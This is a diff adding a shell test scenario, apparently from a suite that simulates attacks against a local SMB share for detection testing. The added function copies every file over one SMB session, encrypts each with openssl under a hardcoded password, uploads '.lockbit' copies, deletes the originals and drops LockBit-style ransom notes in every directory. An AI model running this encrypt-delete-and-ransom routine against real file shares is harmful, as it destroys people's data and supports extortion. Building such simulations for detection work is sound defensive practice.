@@ -2243,3 +2243,23 @@ sc_b77_cron_user_tar_xz_remove_projects() {
   echo "archives $(ls /home/tomas/proj/done/*.tar.xz | wc -l)" >> $CASE/facts
   rm -rf /home/tomas/proj
 }
+pre_h62_smb_one_session_lockbit() { smb_setup; }
+sc_h62_smb_one_session_lockbit() {
+  # the same client as h58, but as a Windows client works: one SMB connection (one smbd child on the server) fetches
+  # every file, the client encrypts them, a second connection puts each F.lockbit, deletes F and drops the notes
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  local st; st=$(mktemp -d /tmp/.client.XXXX); mkdir $st/in $st/out
+  (cd /srv/nas/share && find . -type f | sed 's|^\./||') > $st/list
+  smbx -c "prompt OFF; recurse ON; lcd $st/in; mget *" >/dev/null
+  printf 'Your files are encrypted by LockBit-Linux. Contact lb62@onionmail.example\n' > $st/note
+  : > $st/cmds
+  while read -r f; do
+    mkdir -p "$st/out/$(dirname "$f")"
+    openssl enc -aes-256-cbc -pbkdf2 -pass pass:Lb-62 -in "$st/in/$f" -out "$st/out/$f.lockbit"
+    printf 'put "%s" "%s"\ndel "%s"\n' "$st/out/$f.lockbit" "$f.lockbit" "$f" >> $st/cmds
+  done < $st/list
+  (cd /srv/nas/share && find . -type d | sed 's|^\./\?||') | while read -r d; do printf 'put "%s" "%s"\n' "$st/note" "${d:+$d/}Restore-My-Files.txt" >> $st/cmds; done
+  smbclient -q //127.0.0.1/share -U 'svc-nas%Nas-18pw' < $st/cmds > $st/log 2>&1
+  echo "smb errors $(grep -ci 'error\|NT_STATUS' $st/log)" >> $CASE/facts
+  rm -rf $st
+}
